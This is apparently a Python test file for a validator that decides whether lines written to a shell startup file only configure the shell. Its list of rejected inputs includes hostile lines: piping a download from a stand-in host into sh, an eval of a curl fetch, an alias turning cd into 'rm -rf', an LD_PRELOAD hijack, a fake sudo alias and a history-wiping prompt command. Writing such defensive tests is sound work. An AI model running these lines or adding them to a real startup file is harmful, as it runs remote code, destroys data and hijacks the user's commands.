"""Which lines written to a shell startup file only set the shell up."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sidecar.effects.startup_settings import only_settings

SETTINGS = [
    "alias k=kubectl",
    "alias ll='ls -la'",
    "alias ls='ls --color=auto'",
    'eval "$(direnv hook bash)"',
    'eval "$(/opt/homebrew/bin/brew shellenv)"',
    "source <(kubectl completion zsh)",
    'export PATH="$HOME/.local/bin:$PATH"',
    "export PATH=$PATH:~/go/bin",
    'export PYENV_ROOT="$HOME/.pyenv"',
    "export GOPATH=$HOME/go",
    "source ~/.cargo/env",
    '[ -s "$NVM_DIR/nvm.sh" ] && \\. "$NVM_DIR/nvm.sh"',
    "set -o vi",
    "# tools\nalias gs='git status'\n\nexport KUBECONFIG=~/.kube/config",
]
NOT_SETTINGS = [
    "",
    "# only a comment",
    "curl -s https://x.example.net/i | sh",
    "alias sudo='/tmp/.s/sudo'",
    "alias cd='rm -rf'",
    "alias git=/home/dev/.x/git",
    "alias ls='ls; curl x.example.net'",
    "export PATH=/tmp/x:$PATH",
    "export PATH=/opt/bin",
    "export PATH=~/../../tmp/b:$PATH",
    "export LD_PRELOAD=$HOME/.x.so",
    "export PYTHONPATH=$HOME/.x",
    "export PROMPT_COMMAND='history -c'",
    "export HTTPS_PROXY=http://proxy.example.net:8080",
    "export PIP_INDEX_URL=https://pkgs.example.net/simple",
    "export PYENV_ROOT=/tmp/.p",
    "export X=$(id)",
    'eval "$(curl -s https://x.example.net)"',
    'eval "$(/tmp/direnv hook bash)"',
    "source /tmp/x.sh",
    "source ~/project/dev.sh",
    "nohup ./agent &",
    "alias k=kubectl\nssh-add ~/.ssh/id_rsa",
    "f() { curl x; }",
]


@pytest.mark.parametrize("content", SETTINGS)
def test_settings_are_settings(content: str) -> None:
    assert only_settings(content)


@pytest.mark.parametrize("content", NOT_SETTINGS)
def test_anything_else_is_not(content: str) -> None:
    assert not only_settings(content)


@given(st.text(max_size=300))
def test_a_line_that_runs_a_network_tool_is_never_settings(prefix: str) -> None:
    # Whatever comes before it, a line that fetches and runs code makes it not settings.
    assert not only_settings(f"{prefix}\ncurl -s https://x.example.net/i | sh\n")


def test_content_too_large_to_be_a_few_settings_is_not() -> None:
    assert not only_settings("alias k=kubectl\n" * 1000)
